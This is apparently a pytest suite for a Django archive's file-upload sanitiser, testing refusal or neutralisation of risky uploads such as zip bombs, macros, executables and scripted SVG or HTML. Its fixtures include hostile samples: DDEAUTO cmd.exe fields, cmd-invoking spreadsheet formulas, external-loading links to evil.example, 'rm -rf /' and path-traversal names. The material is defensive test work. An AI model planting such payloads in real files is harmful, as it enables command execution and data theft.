"""One door for every file: told by its content, made harmless, or refused with a sentence that says what to do."""

import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from django.conf import LazySettings
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from firewood.archive.states import Medium
from firewood.archive.uploads import PaperRead, read_paper, read_photo
from firewood.archive.uploads.names import name_for, tidy_name
from firewood.journal.refusals import TooMuch, Unreadable
from tests.archive import zoo


@pytest.fixture(autouse=True)
def media(settings: LazySettings, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT, settings.FIREWOOD_ROOM_FOR_UPLOADS = tmp_path / "media", 0
    return tmp_path / "media"


def read(name: str, content: bytes) -> PaperRead:
    return read_paper(SimpleUploadedFile(name, content))


def refusal(name: str, content: bytes) -> str:
    with pytest.raises(Unreadable) as no:
        read(name, content)
    return no.value.message


def kept_content(media: Path, paper: PaperRead, number: int = 0) -> bytes:
    return (media / paper.kept[number].stored_at).read_bytes()


@pytest.mark.parametrize(("kind", "kept"), [
    ("JPEG", "image/jpeg"), ("PNG", "image/png"), ("WEBP", "image/webp"), ("TIFF", "image/jpeg"), ("BMP", "image/jpeg"),
])  # fmt: skip
def test_a_picture_is_drawn_anew_whatever_its_name_says(media: Path, kind: str, kept: str) -> None:
    paper = read("letter.pdf", zoo.picture(kind))
    assert (paper.medium, paper.text) == (Medium.SCAN, "")
    (page,) = paper.kept
    assert (page.media_type, page.width, page.height) == (kept, 64, 48)
    with Image.open(media / page.stored_at) as drawn:
        assert drawn.size == (64, 48)


def test_a_photo_forgets_where_it_was_taken(media: Path) -> None:
    beast = zoo.photo_with_place()
    with Image.open(BytesIO(beast)) as before:
        assert before.getexif().get_ifd(0x8825)
    paper = read("box.jpg", beast)
    with Image.open(media / paper.kept[0].stored_at) as after:
        assert (dict(after.getexif()), after.getexif().get_ifd(0x8825), "comment" in after.info) == ({}, {}, False)
    written = kept_content(media, paper)
    assert b"Exif" not in written
    assert b"secret" not in written


def test_every_page_of_a_scan_is_kept() -> None:
    paper = read("letter.tif", zoo.scan_of_pages(3))
    assert [(page.name, page.media_type) for page in paper.kept] == [
        ("letter.tif 1.png", "image/png"), ("letter.tif 2.png", "image/png"), ("letter.tif 3.png", "image/png"),
    ]  # fmt: skip
    assert "too many pixels or pages" in refusal("long.tif", zoo.scan_of_pages(41))


def test_a_polyglot_is_a_picture_and_nothing_else(media: Path) -> None:
    written = kept_content(media, read("page.html", zoo.polyglot()))
    assert written.startswith(b"\xff\xd8\xff")
    assert not any(harm in written for harm in (b"script", b"PK\x03\x04", b"MZ harm"))


@pytest.mark.parametrize(("name", "content", "says"), [
    ("bomb.png", zoo.bomb_picture(), "too many pixels"),
    ("torn.jpg", zoo.picture()[:200], "may be damaged"),
    ("nothing.pdf", b"", "is empty"),
    ("drawing.png", b"<?xml version='1.0'?><svg onload='alert(1)'><script>alert(1)</script></svg>", "drawing"),
    ("letter.txt", b"<!-- hello --><html><script>alert(1)</script></html>", "web page"),
    ("letter.txt", b"\xef\xbb\xbf  <script>alert(1)</script>", "web page"),
    ("letter.docx", b"MZ\x90\x00" + bytes(100), "program"),
    ("letter.pdf", b"#!/bin/sh\nrm -rf /", "program"),
    ("letter.pdf", b"PK\x05\x06" + bytes(18), "bundle"),
    ("letter.docx", zoo.package({"a.txt": b"a", "b.exe": b"MZ"}), "bundle"),
    ("letter.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "Save it as .docx"),
    ("phone.heic", b"\x00\x00\x00\x18ftypheic" + bytes(100), "Send it as JPEG"),
    ("cat.gif", b"GIF89a" + bytes(20), "Send it as JPEG"),
    ("film.mp4", b"\x00\x00\x00\x18ftypisom" + bytes(100), "film"),
    ("letter.txt", b"words\x00\x01\x02 and more", "do not know"),
    ("bomb.docx", zoo.docx_bomb(), "unpacks to more"),
    ("blown.docx", zoo.docx_blown_up(), "unpacks to more"),
    ("entity.docx", zoo.docx_with_entity(), "no office program"),
    ("laughs.docx", zoo.docx_with_laughs(), "Save it anew"),
    ("macros.docx", zoo.docx_with_macros(), "macros"),
    ("torn.docx", zoo.docx("words")[:-40], "may be damaged"),
], ids=lambda each: each if isinstance(each, str) else "")  # fmt: skip
def test_what_is_refused_says_what_to_send_instead(media: Path, name: str, content: bytes, says: str) -> None:
    said = refusal(name, content)
    assert says in said
    assert name in said
    assert [path for path in media.rglob("*") if path.is_file()] == []


def test_what_is_too_large_is_not_even_looked_at() -> None:
    sent = SimpleUploadedFile("scan.jpg", b"")
    sent.size = 100 * 1024**2
    with pytest.raises(Unreadable, match="up to 25 megabytes"):
        read_paper(sent)


def test_a_pdf_is_kept_as_it_came(media: Path) -> None:
    paper = read("scan.exe", b"%PDF-1.7\n%%EOF")
    assert kept_content(media, paper) == b"%PDF-1.7\n%%EOF"
    assert (paper.kept[0].media_type, paper.kept[0].name) == ("application/pdf", "scan.exe.pdf")


@pytest.mark.parametrize(("content", "ending"), [(zoo.sheet(), ".xlsx"), (zoo.ods(), ".ods")])
def test_a_table_is_kept_to_be_saved(content: bytes, ending: str) -> None:
    paper = read("masks", content)
    assert [kept.name for kept in paper.kept] == [f"masks{ending}"]
    assert paper.text == ""


def test_a_document_gives_its_words_and_its_pictures(media: Path) -> None:
    table = (
        "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>masks</w:t></w:r></w:p></w:tc>"
        "<w:tc><w:p><w:r><w:t>20,000</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
    )
    parts = {"word/media/image1.jpeg": zoo.photo_with_place(), "word/media/image2.emf": b"\x01\x00\x00\x00 emf"}
    paper = read("letter.docx", zoo.docx("Dear friends,", "愿友谊长存", parts=parts, body=table))
    assert paper.text == "Dear friends,\n愿友谊长存\nmasks\t20,000"
    assert [kept.media_type.rsplit(".", 1)[-1] for kept in paper.kept] == ["document", "image/jpeg"]
    assert b"Spy 3" not in kept_content(media, paper, 1)


def test_a_document_that_would_load_something_is_made_neutral(media: Path) -> None:
    beast = zoo.docx_that_loads()
    paper = read("letter.docx", beast)
    assert paper.text == "letter"
    assert paper.notes == ["“letter.docx” would have loaded something from elsewhere; that was taken out."]
    with zipfile.ZipFile(BytesIO(beast)) as sent, zipfile.ZipFile(BytesIO(kept_content(media, paper))) as kept:
        assert [part.date_time for part in kept.infolist()] == [part.date_time for part in sent.infolist()]
    again = read("again.docx", kept_content(media, paper))
    assert (again.text, again.notes) == ("letter", [])
    assert b"evil.example" not in kept_content(media, again)


@pytest.mark.parametrize(("mode", "encoding"), [
    ('TargetMode="Extern&#97;l"', "utf-8"),
    ('TargetMode="External"', "utf-16"),
    ('z:Type="/hyperlink" TargetMode="External"', "utf-8"),
])  # fmt: skip
def test_a_link_to_elsewhere_is_found_however_it_is_written(media: Path, mode: str, encoding: str) -> None:
    paper = read("letter.docx", zoo.docx_that_loads(mode, encoding))
    with zipfile.ZipFile(BytesIO(kept_content(media, paper))) as kept:
        links = kept.read("word/_rels/settings.xml.rels")
    assert (b"evil.example" in links, b"http://city.example/" in links) == (False, True)
    assert len(paper.notes) == 1


HARMFUL_FIELDS = [
    ("{", " DDEAUTO C:\\\\cmd.exe", "|", "shown", "}"),
    ("{", " DDE", "AUTO C:\\\\CMD.EXE", "|", "shown", "}"),
    ("{", "{", " QUOTE 68 68 69", "|", "dde", "}", " C:\\\\cmd", "|", "shown", "}"),
    ("{", " IF 1=1", "{", " INCLUDEPICTURE http://evil.example/", "|", "}", "|", "shown", "}"),
    ("{", "{", " QUOTE all of it", "|", "dde auto", "}", "|", "shown", "}"),
    (" DDEAUTO without a beginning", "shown"),
]
HARMLESS_FIELDS = [
    ("{", " PAGE", "|", "1", "}"),
    ("{", " HYPERLINK http://city.example/", "|", "shown", "}"),
    ("{", " TOC", "|", "{", " PAGEREF", "|", "1", "}", "}"),
]


@pytest.mark.parametrize("field", HARMFUL_FIELDS)
def test_a_field_that_fetches_or_starts_something_keeps_only_what_it_showed(
    media: Path, field: tuple[str, ...]
) -> None:
    paper = read("letter.docx", zoo.docx_with_field(*field))
    with zipfile.ZipFile(BytesIO(kept_content(media, paper))) as kept:
        words = kept.read("word/document.xml")
    assert [harm for harm in (b"DDE", b"AUTO", b"INCLUDE", b"evil", b"cmd") if harm in words] == []
    assert paper.text.startswith("letter\n")
    assert paper.text.endswith("shown")
    assert len(paper.notes) == 1
    assert read("again.docx", kept_content(media, paper)).notes == []


@pytest.mark.parametrize("field", HARMLESS_FIELDS)
def test_other_fields_stay_as_they_are(media: Path, field: tuple[str, ...]) -> None:
    beast = zoo.docx_with_field(*field)
    paper = read("letter.docx", beast)
    assert (paper.notes, kept_content(media, paper)) == ([], beast)


def test_words_that_stand_twice_for_old_programs_are_read_once() -> None:
    assert read("letter.docx", zoo.docx_with_twins()).text == "once\nin a box\n\nmoved\nmasks\t49 boxes"


HARMFUL_SHEETS = {
    "xl/connections.xml": (
        '<connections><connection id="1" type="5" refreshOnLoad="1" odcFile="http://evil.example/a.odc">'
        '<dbPr connection="Provider=SQL;Data Source=evil.example" command="SELECT"/></connection>'
        '<connection id="2" type="4"><webPr url="http://evil.example/"/></connection>'
        '<connection id="3" type="100"><extLst><ext><x:connection xmlns:x="x15"><x:oledbPr connection="evil.example"/>'
        "</x:connection></ext></extLst></connection></connections>"
    ),
    "xl/queryTables/queryTable1.xml": '<queryTable name="q" refreshOnLoad="1" connectionId="1"/>',
    "xl/externalLinks/externalLink1.xml": (
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c evil.example"><ddeItems/></ddeLink></externalLink>'
    ),
    "xl/externalLinks/_rels/externalLink1.xml.rels": (
        '<Relationships><Relationship Id="r1" Type="x/externalLinkPath" Target="http://evil.example/a.xlsx"'
        ' TargetMode="External"/></Relationships>'
    ),
    "xl/worksheets/sheet1.xml": (
        '<worksheet><sheetData><row><c><f>WEBSERVICE("http://evil.example/"&amp;A1)</f><v>49</v></c></row></sheetData>'
        "</worksheet>"
    ),
    "xl/anywhere.bin": '\ufeff<worksheet><c><f>_xlfn.IMAGE("http://evil.example/")</f></c></worksheet>',
    "xl/worksheets/sheet2.xml": "<worksheet><c><f>cmd|'/c evil.example'!A0</f></c></worksheet>",
    "xl/worksheets/sheet3.xml": "<worksheet><c><f>'\\\\evil.example\\x\\[a.xlsx]S'!A1</f></c></worksheet>",
}


@pytest.mark.parametrize("part", HARMFUL_SHEETS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_table_that_would_load_something_is_made_neutral(media: Path, part: str, encoding: str) -> None:
    beast = HARMFUL_SHEETS[part].replace("\ufeff", "" if encoding == "utf-16" else "\ufeff").encode(encoding)
    paper = read("masks.xlsx", zoo.sheet({part: beast}))
    assert paper.notes == ["“masks.xlsx” would have loaded something from elsewhere; that was taken out."]
    with zipfile.ZipFile(BytesIO(kept_content(media, paper))) as kept:
        left = kept.read(part)
    assert [harm for harm in (b"evil.example", b"refreshOnLoad", b"cmd") if harm in left] == []
    assert read("again.xlsx", kept_content(media, paper)).notes == []


def test_a_table_keeps_its_numbers_and_whatever_lies_in_it(media: Path) -> None:
    harmless = {
        "xl/connections.xml": b'<connection><dbPr connection="Data Model Connection" command="Model"/></connection>',
        "xl/worksheets/sheet1.xml": b"<worksheet><c><f>SUM('Sheet 1'!A1:A9)/'Sheet 2'!B1</f><v>49</v></c><c><f>\"a|b\""
        b"&amp;A1</f></c></worksheet>",
        "xl/worksheets/_rels/sheet1.xml.rels": b'<Relationships><Relationship Id="r1" Type="x/hyperlink"'
        b' Target="http://city.example/" TargetMode="External"/></Relationships>',
        "xl/media/image1.svg": b"<!DOCTYPE svg><svg/>",
    }  # fmt: skip
    beast = zoo.sheet(harmless)
    paper = read("masks.xlsx", beast)
    assert (paper.notes, kept_content(media, paper)) == ([], beast)
    harmless["xl/worksheets/sheet2.xml"] = b"<worksheet><c><f>RTD(A1)</f><v>50</v></c></worksheet>"
    neutral = kept_content(media, read("masks.xlsx", zoo.sheet(harmless)))
    with zipfile.ZipFile(BytesIO(neutral)) as kept:
        assert kept.read("xl/worksheets/sheet2.xml").endswith(b"<worksheet><c><f>NA()</f><v>50</v></c></worksheet>")
        assert kept.read("xl/worksheets/sheet1.xml") == harmless["xl/worksheets/sheet1.xml"]


@pytest.mark.parametrize("harm", [
    '<table:table><table:table-source xlink:href="http://evil.example/a.ods"/></table:table>',
    '<table:table-cell table:formula="of:=[\'file:///evil.example/a.ods\'#$S.A1]" office:value="49"/>',
    '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil.example/&quot;)" office:value="49"/>',
    '<table:dde-link><office:dde-source office:dde-topic="evil.example"/></table:dde-link>',
    '<draw:image xlink:href="http://evil.example/pixel.png"/>', '<draw:image xlink:href="../../evil.example"/>',
    '<draw:object xlink:href="\\\\evil.example\\share"/>',
    '<office:event-listeners xlink:href="vnd.sun.star.script:evil.example"/>',
    '<table:database-range><table:database-source-sql table:database-name="evil.example"/></table:database-range>',
])  # fmt: skip
def test_an_open_table_that_would_load_something_is_made_neutral(media: Path, harm: str) -> None:
    stays = '<text:a xlink:href="http://city.example/">us</text:a><draw:image xlink:href="Pictures/1.png"/>'
    paper = read("masks.ods", zoo.ods(harm + stays))
    assert paper.notes == ["“masks.ods” would have loaded something from elsewhere; that was taken out."]
    with zipfile.ZipFile(BytesIO(kept_content(media, paper))) as kept:
        left = kept.read("content.xml")
    assert b"evil.example" not in left
    assert stays.encode() in left
    assert (b'office:value="49"' in left) == ("49" in harm)
    assert read("again.ods", kept_content(media, paper)).notes == []


def test_an_open_table_that_loads_nothing_is_kept_as_it_came(media: Path) -> None:
    beast = zoo.ods('<table:table-cell table:formula="of:=SUM([$\'S 1\'.A1:.A9])+{1;2|3}" office:value="49"/>')
    paper = read("masks.ods", beast)
    assert (paper.notes, kept_content(media, paper)) == ([], beast)


def test_a_large_table_is_looked_through_too(media: Path) -> None:
    rows = "<row><c><f>SUM(A1)</f><v>49</v></c></row>" * 150_000
    harm = "<row><c><f>WEBSERVICE(A1)</f></c></row>"
    quiet = zoo.sheet({"xl/worksheets/sheet1.xml": f"<worksheet>{rows}</worksheet>".encode()})
    assert read("masks.xlsx", quiet).notes == []
    loud = zoo.sheet({"xl/sheet1.bin": f"<worksheet>{rows}{harm}</worksheet>".encode()})
    assert len(read("masks.xlsx", loud).notes) == 1
    louder = zoo.sheet({"xl/sheet1.bin": f"<worksheet>{rows * 4}{harm}</worksheet>".encode()})
    assert "unpacks to more" in refusal("masks.xlsx", louder)


def test_macros_of_old_tables_are_refused_however_they_are_named() -> None:
    kinds = '<Override PartName="/xl/a.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
    assert "macros" in refusal("a.xlsx", zoo.sheet({"[Content_Types].xml": zoo.TYPES.format(kinds).encode("utf-16")}))


@pytest.mark.parametrize("day", [b"Fri, 31 Dec 9999 23:59:59 -1200", b"Mon, 1 Jan 1200 00:00:00 +1400", b"x" * 5000])
def test_a_mail_from_a_day_that_never_was_has_none(media: Path, day: bytes) -> None:
    beast = zoo.mail("words").replace(b"Tue, 17 Mar 2020 09:30:00 +0900", day)
    assert (read("mail.eml", beast).sent_at, read("mail.eml", zoo.mail("words")).sent_at is None) == (None, False)


def test_a_mail_gives_its_head_its_words_and_what_is_attached(media: Path) -> None:
    beast = zoo.mail(
        "Liebe Freunde,\nwir senden 20.000 Masken.", sender='"Außenamt Köln" <amt@koeln.example>',
        subject="Masken für Peking 口罩", attached=[("../../foto.png", zoo.photo_with_place()), ("x.exe", b"MZ harm")],
    )  # fmt: skip
    paper = read("mail", beast)
    assert (paper.medium, paper.title) == (Medium.MAIL, "Masken für Peking 口罩")
    assert (paper.from_words, paper.to_words) == ("Außenamt Köln <amt@koeln.example>", "fao@beijing.example")
    assert paper.text == "Liebe Freunde,\nwir senden 20.000 Masken."
    assert paper.sent_at is not None
    assert paper.sent_at.isoformat() == "2020-03-17T09:30:00+09:00"
    assert [(kept.name, kept.media_type) for kept in paper.kept] == [
        ("mail.eml", "message/rfc822"), ("foto.png.jpg", "image/jpeg"),
    ]  # fmt: skip
    assert kept_content(media, paper) == beast
    assert paper.notes == ["“x.exe” is a program. Programs are not taken in."]


def test_of_a_page_in_a_mail_only_the_words_are_read() -> None:
    page = (
        "<html><head><title>no</title><style>p{}</style></head><body onload=alert(1)><p>Dear <b>friends</b>,</p>"
        "<script>alert('harm')</script><img src='http://evil.example/pixel.gif'><table><tr><td>masks</td>"
        "<td>500</td></tr></table><svg><text>unseen</text></svg></body></html>"
    )
    paper = read("mail.eml", zoo.mail(page=page))
    assert paper.text.split() == ["Dear", "friends,", "masks", "500"]
    assert len(paper.kept) == 1


def test_a_mail_in_a_mail_is_read_too() -> None:
    inner = zoo.mail("We need 500 gowns.", subject="Request", sender="mayor@tehran.example",
                     attached=[("list.pdf", b"%PDF-1.4 list")])  # fmt: skip
    paper = read("fw.eml", zoo.mail("Please see below.", subject="Fw: Request", forwarded=inner))
    assert paper.text == "Please see below.\n\n— mayor@tehran.example · Request —\nWe need 500 gowns."
    assert [kept.media_type for kept in paper.kept] == ["message/rfc822", "message/rfc822", "application/pdf"]


def test_a_thousand_attachments_stay_in_the_mail_and_it_says_so(media: Path) -> None:
    beast = zoo.mail("words", attached=[(f"{n}.txt", f"paper {n}".encode()) for n in range(1000)])
    paper = read("many.eml", beast)
    assert (paper.text, len(paper.kept)) == ("words", 41)
    assert paper.notes == ["960 parts of “many.eml” stay in it and were not unpacked."]
    assert kept_content(media, paper) == beast


def test_fifty_mails_in_each_other_are_unpacked_to_a_measure() -> None:
    paper = read("deep.eml", zoo.mail_nested(50))
    assert [kept.media_type for kept in paper.kept] == ["message/rfc822"] * 4
    assert "level 46" in paper.text
    assert "level 45" not in paper.text
    assert paper.notes == ["1 part of “1.eml” stays in it and was not unpacked."]


def test_bags_in_bags_end_in_words_or_in_a_sentence() -> None:
    assert read("bags.eml", zoo.mail_of_bags(50)).text == "words"
    assert "cannot be read as an e-mail" in refusal("bags.eml", zoo.mail_of_bags(5_000))


@pytest.mark.parametrize(("content", "text"), [
    ("Grüße aus Köln".encode(), "Grüße aus Köln"),
    ("Grüße aus Köln".encode("cp1252"), "Grüße aus Köln"),
    ("我们捐赠口罩两万只".encode("gb18030"), "我们捐赠口罩两万只"),
    ("愿友谊长存".encode("utf-16"), "愿友谊长存"),
    (b"one\r\ntwo\x1b[31m", "one\ntwo[31m"),
])  # fmt: skip
def test_a_plain_text_is_read_in_the_letters_it_is_written_in(content: bytes, text: str) -> None:
    paper = read("note.txt", content)
    assert (paper.medium, paper.text) == (Medium.FILE, text)


@pytest.mark.parametrize(("given", "tidy"), [
    ("../../etc/passwd", "passwd"), ("C:\\letters\\a.pdf", "a.pdf"), ("a\x00b.pdf", "a b.pdf"),
    ("letter\u202efdp.exe", "letterfdp.exe"), ("..", "file"), ("", "file"), (None, "file"), ("信.pdf", "信.pdf"),
    ("x" * 300 + ".pdf", "x" * 110 + "….pdf"),
])  # fmt: skip
def test_a_name_is_made_fit_to_be_kept(given: str | None, tidy: str) -> None:
    assert tidy_name(given) == tidy


def test_a_file_is_handed_out_under_what_it_is() -> None:
    assert name_for("application/pdf", "letter.exe") == "letter.exe.pdf"
    assert name_for("image/jpeg", "box.JPEG") == "box.jpg"
    assert name_for("message/rfc822", "mail.eml") == "mail.eml"


def test_a_full_disk_says_so(settings: LazySettings) -> None:
    settings.FIREWOOD_ROOM_FOR_UPLOADS = 10**18
    with pytest.raises(TooMuch, match="no room for files"):
        read("a.pdf", b"%PDF-1.7")
    with pytest.raises(TooMuch, match="no room for files"):
        read_photo(SimpleUploadedFile("a.png", zoo.picture("PNG")))


def test_no_working_folder_is_left(media: Path) -> None:
    read("mail.eml", zoo.mail("words", attached=[("a.png", zoo.picture("PNG"))]))
    refusal("bomb.docx", zoo.docx_bomb())
    assert list((media / "incoming").iterdir()) == []
